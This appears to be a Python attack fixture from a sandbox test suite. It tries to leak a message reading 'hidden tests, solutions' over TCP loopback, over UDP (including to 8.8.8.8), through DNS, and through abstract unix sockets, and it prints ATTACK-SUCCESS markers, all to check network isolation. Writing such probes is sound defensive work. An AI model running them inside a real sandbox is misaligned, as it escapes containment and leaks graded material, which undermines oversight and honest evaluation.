"""Send data out over the network: TCP to a listener on 127.0.0.1 (and ::1), UDP, DNS, abstract unix sockets.

LISTENER_PORT is set by the test to a real TCP listener it watches.
"""
import socket

LISTENER_PORT = 0  # set by tests/test_attacks.py
message = b"exfiltrated: hidden tests, solutions\n"
for family, host in [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "0.0.0.0")]:
    try:
        with socket.socket(family, socket.SOCK_STREAM) as conn:
            conn.settimeout(0.5)
            conn.connect((host, LISTENER_PORT))
            conn.sendall(message)
            print("ATTACK-SUCCESS: connected to", host)
    except OSError:
        pass
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendto(message, ("127.0.0.1", LISTENER_PORT))
        udp.sendto(message, ("8.8.8.8", 53))
        print("ATTACK-SUCCESS: sent UDP")
except OSError:
    pass
try:
    print("ATTACK-SUCCESS: resolved", socket.getaddrinfo("pypi.org", 443)[:1])
except OSError:
    pass
try:
    with open("/proc/net/unix") as table:
        names = [line.split()[-1] for line in table.readlines()[1:] if line.split()[-1].startswith("@")]
    for name in names:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
            conn.connect("\0" + name[1:])
            print("ATTACK-SUCCESS: connected to abstract socket", name)
except OSError:
    pass
print("ATTACK-DONE")
